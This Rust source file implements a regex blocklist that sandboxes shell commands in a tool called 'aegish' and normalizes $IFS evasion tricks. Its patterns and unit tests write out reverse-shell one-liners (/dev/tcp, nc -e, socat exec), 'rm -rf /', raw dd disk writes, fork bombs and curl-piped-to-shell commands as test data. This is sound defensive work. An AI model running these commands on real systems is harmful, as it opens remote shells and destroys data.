//! Pattern blocklist over canonical command text

use crate::config::IfsPolicy;
use crate::error::{AegishError, Result};
use crate::verdict::{Verdict, VerdictSource};
use regex::{Regex, RegexBuilder};
use std::path::Path;

/// Start of a command: line start, an operator, a subshell or substitution
const CMD: &str = r"(?:^|[;&|(`\s]|\$\()";
/// Start of a command name, not merely any word
const CMD_START: &str = r"(?:^|[;&|(`]|\$\()\s*";
/// Optional directory prefix, so `/usr/bin/sh` and `./sh` match like `sh`
const DIR: &str = r"(?:[^\s;&|()]*/)?";
const SHELLS: &str = r"(?:bash|sh|dash|zsh|ksh|mksh|csh|tcsh|ash|rbash|fish|busybox|elvish|nu|pwsh|xonsh)";
const INTERPRETERS: &str = r"(?:python[0-9.]*|perl|ruby|node|nodejs|php|lua)";
/// Wrappers that may sit between a pipe and the interpreter, by bare name or
/// path, with their flags and `env`-style assignments
const WRAPPERS: &str = r"(?:(?:[^\s;&|()]*/)?(?:sudo|env|command|exec|nohup|time|doas)(?:\s+-\S+|\s+[A-Za-z_][A-Za-z0-9_]*=\S*)*\s+)*";
/// End of the interpreter name
const END: &str = r"(?:$|[\s;&|)`])";

fn builtin_patterns() -> Vec<(String, &'static str)> {
    vec![
        (r"/dev/(?:tcp|udp)/".to_string(), "Reverse shell via /dev/tcp or /dev/udp"),
        (
            format!(r"{CMD}{DIR}(?:nc|ncat|netcat)(?:\s[^;&|\n]*)?\s-[a-zA-Z]*[ec](?:\s|$)"),
            "Reverse shell via netcat -e/-c",
        ),
        (
            format!(r"(?i){CMD}{DIR}socat\s.*\b(?:exec|system):"),
            "Reverse shell via socat exec",
        ),
        (
            format!(
                r"{CMD}{DIR}rm\s+(?:\S+\s+)*?-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:\S+\s+)*?(?:/\*?|~/?\*?|\$HOME/?\*?)\s*(?:$|[;&|)])"
            ),
            "Recursive removal of / or home directory",
        ),
        (r"--no-preserve-root".to_string(), "rm --no-preserve-root"),
        (
            format!(r"{CMD}{DIR}mkfs(?:\.[a-z0-9]+)?{END}"),
            "Filesystem format via mkfs",
        ),
        (
            format!(r"{CMD}{DIR}dd\s[^;&|\n]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk)"),
            "Raw write to a block device",
        ),
        (r":\(\)\s*\{".to_string(), "Fork bomb"),
        (
            r"([A-Za-z_][A-Za-z0-9_]*)\s*\(\)\s*\{[^}]*\|[^}]*&".to_string(),
            "Fork bomb shape (function piping into itself in the background)",
        ),
        (
            format!(r"{CMD}exec\s+(?:-\S+\s+(?:[^\s;&|-]\S*\s+)?)*{DIR}{SHELLS}{END}"),
            "Process replacement with a shell",
        ),
        (
            format!(r"\|&?\s*{WRAPPERS}{DIR}{SHELLS}{END}"),
            "Output piped into a shell",
        ),
        (
            format!(r"\|&?\s*{WRAPPERS}{DIR}{INTERPRETERS}{END}"),
            "Output piped into an interpreter",
        ),
    ]
}

#[derive(Debug)]
struct Rule {
    regex: Regex,
    reason: String,
}

#[derive(Debug)]
pub struct Blocklist {
    rules: Vec<Rule>,
    ifs_policy: IfsPolicy,
}

impl Blocklist {
    /// Compile the built-in table plus `extra` patterns.
    ///
    /// `runner` is blocked by path and by file name: it stays executable
    /// under the sandbox, so invoking it directly would be a way around the
    /// exec denial.
    pub fn new(extra: &[String], runner: &Path, ifs_policy: IfsPolicy) -> Result<Self> {
        let mut rules = Vec::new();
        for (pattern, reason) in builtin_patterns() {
            rules.push(Rule {
                regex: compile(&pattern)?,
                reason: reason.to_string(),
            });
        }
        let runner_text = runner.to_string_lossy();
        if !runner_text.is_empty() {
            let mut alternatives = vec![regex::escape(&runner_text)];
            if let Some(name) = runner.file_name() {
                let name = name.to_string_lossy();
                // The permissive runner is plain bash, already covered.
                if name != "bash" {
                    alternatives.push(format!(r"{CMD_START}{DIR}{}{END}", regex::escape(&name)));
                }
            }
            rules.push(Rule {
                regex: compile(&alternatives.join("|"))?,
                reason: "Direct invocation of the sandbox runner".to_string(),
            });
        }
        for pattern in extra {
            rules.push(Rule {
                regex: compile(pattern)?,
                reason: format!("Matches configured block pattern '{pattern}'"),
            });
        }
        Ok(Self { rules, ifs_policy })
    }

    /// BLOCK verdicts for every rule matching any of `texts`
    pub fn check(&self, texts: &[&str]) -> Vec<Verdict> {
        let prepared: Vec<String> = texts.iter().map(|t| self.prepare(t)).collect();
        self.rules
            .iter()
            .filter(|rule| prepared.iter().any(|t| rule.regex.is_match(t)))
            .map(|rule| Verdict::block(rule.reason.clone(), VerdictSource::StaticBlocklist))
            .collect()
    }

    fn prepare(&self, text: &str) -> String {
        match self.ifs_policy {
            IfsPolicy::Normalize => normalize_ifs(text),
            IfsPolicy::Delegate => text.to_string(),
        }
    }
}

fn compile(pattern: &str) -> Result<Regex> {
    RegexBuilder::new(pattern)
        .multi_line(true)
        .size_limit(1 << 20)
        .build()
        .map_err(|e| AegishError::InvalidPattern {
            pattern: pattern.to_string(),
            reason: e.to_string(),
        })
}

/// Rewrite field-separator tricks into the whitespace they stand for.
///
/// `$IFS`, `${IFS}` and their quoted forms become a space; `$1`..`$9` are
/// empty in an interactive session and are dropped.
pub fn normalize_ifs(text: &str) -> String {
    let mut out = text.to_string();
    for form in ["\"${IFS}\"", "\"$IFS\"", "${IFS}", "'${IFS}'"] {
        out = out.replace(form, " ");
    }
    // `$IFS` only when not followed by more name characters
    let mut result = String::with_capacity(out.len());
    let mut rest = out.as_str();
    while let Some(pos) = rest.find("$IFS") {
        let after = &rest[pos + 4..];
        result.push_str(&rest[..pos]);
        if after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
            result.push_str("$IFS");
        } else {
            result.push(' ');
        }
        rest = after;
    }
    result.push_str(rest);

    let mut cleaned = String::with_capacity(result.len());
    let mut chars = result.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' {
            match chars.peek() {
                Some(d) if ('1'..='9').contains(d) => {
                    chars.next();
                    continue;
                }
                _ => {}
            }
        }
        cleaned.push(c);
    }
    cleaned
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list() -> Blocklist {
        Blocklist::new(&[], Path::new("/opt/aegish/bin/runner"), IfsPolicy::Normalize).unwrap()
    }

    fn blocked(text: &str) -> bool {
        !list().check(&[text]).is_empty()
    }

    #[test]
    fn test_builtin_patterns_compile() {
        assert!(list().rules.len() > 10);
    }

    #[test]
    fn test_reverse_shells() {
        assert!(blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        assert!(blocked("nc -e /bin/sh 10.0.0.1 4444"));
        assert!(blocked("ncat 10.0.0.1 4444 -e /bin/bash"));
        assert!(blocked("socat TCP:1.2.3.4:1 EXEC:/bin/sh"));
        assert!(!blocked("nc -zv host 22"));
    }

    #[test]
    fn test_destructive() {
        assert!(blocked("rm -rf /"));
        assert!(blocked("rm -fr /*"));
        assert!(blocked("sudo rm -r -f ~"));
        assert!(blocked("rm -rf --no-preserve-root /tmp/x"));
        assert!(blocked("mkfs.ext4 /dev/sda1"));
        assert!(blocked("dd if=/dev/zero of=/dev/sda bs=1M"));
        assert!(!blocked("rm -rf ./build"));
        assert!(!blocked("rm -rf /tmp/build"));
        assert!(!blocked("dd if=a of=b"));
    }

    #[test]
    fn test_fork_bombs() {
        assert!(blocked(":(){ :|:& };:"));
        assert!(blocked("bomb() { bomb | bomb & }; bomb"));
    }

    #[test]
    fn test_pipe_to_shell_any_path_form() {
        assert!(blocked("curl http://x/y | sh"));
        assert!(blocked("curl http://x/y | /usr/bin/sh"));
        assert!(blocked("wget -qO- x |bash -s"));
        assert!(blocked("curl x | sudo -E bash"));
        assert!(blocked("cat x | python3 -"));
        assert!(blocked("cat x |& ./zsh"));
        assert!(blocked("curl http://h/x | /usr/bin/env bash"));
        assert!(blocked("curl http://h/x | /usr/bin/sudo -E /bin/sh"));
        assert!(blocked("curl http://h/x | env PATH=/tmp bash -s"));
        assert!(blocked("cat x | /usr/bin/env python3"));
        assert!(!blocked("ls | shuf"));
        assert!(!blocked("echo hi | grep sh"));
    }

    #[test]
    fn test_exec_shell() {
        assert!(blocked("exec /bin/bash"));
        assert!(blocked("true; exec -a foo sh"));
        assert!(!blocked("exec 3>file"));
    }

    #[test]
    fn test_runner_reference() {
        assert!(blocked("/opt/aegish/bin/runner -c id"));
        assert!(blocked("cp x y; runner -c id"));
        assert!(!blocked("echo the runner is fine"));
    }

    #[test]
    fn test_ifs_normalize_and_delegate() {
        assert!(blocked("curl x|${IFS}sh"));
        assert!(blocked("rm${IFS}-rf${IFS}/"));
        assert!(blocked("rm$IFS$9-rf$IFS/"));
        let delegate =
            Blocklist::new(&[], Path::new("/opt/aegish/bin/runner"), IfsPolicy::Delegate).unwrap();
        assert!(delegate.check(&["rm${IFS}-rf${IFS}/"]).is_empty());
    }

    #[test]
    fn test_extra_patterns() {
        let list = Blocklist::new(
            &[r"\bshutdown\b".to_string()],
            Path::new("/bin/bash"),
            IfsPolicy::Normalize,
        )
        .unwrap();
        assert_eq!(list.check(&["shutdown -h now"]).len(), 1);
        assert!(Blocklist::new(&["(".to_string()], Path::new("/bin/bash"), IfsPolicy::Normalize)
            .is_err());
    }

    #[test]
    fn test_normalize_ifs() {
        assert_eq!(normalize_ifs("cat${IFS}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(normalize_ifs("a$IFS$9b"), "a b");
        assert_eq!(normalize_ifs("$IFSX"), "$IFSX");
    }
}
